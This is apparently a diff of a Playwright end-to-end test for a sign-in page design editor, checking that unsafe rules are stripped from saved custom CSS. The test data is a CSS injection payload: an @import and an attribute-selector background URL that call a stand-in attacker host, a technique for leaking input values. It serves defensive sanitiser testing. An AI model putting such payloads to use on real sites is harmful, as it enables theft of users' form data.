@@ -114,7 +114,9 @@ test('domains: add with the format rule, follow the instructions, verify by DNS,
   await page.getByRole('textbox', { name: 'Sub headline' }).fill('Type your work e-mail and we will send you a sign-in link.');
   await page
     .getByRole('textbox', { name: 'Custom CSS' })
-    .fill('@import url("https://evil.e2e-domains.test/x.css");\nh1 { color: rgb(200, 0, 0); }\ninput[value^="a"] { background: url(https://evil.e2e-domains.test/a) }');
+    .fill(
+      '@import url("https://evil.e2e-domains.test/x.css");\nh1 { color: rgb(200, 0, 0); }\ninput[value^="a"] { background: url(https://evil.e2e-domains.test/a) }',
+    );
   await page.getByRole('button', { name: 'Save Changes' }).click();
   await expect(page.getByText('Sign-in design saved.')).toBeVisible();
   const removedList = page.getByRole('status').filter({ hasText: 'Removed from your CSS when it was saved:' });
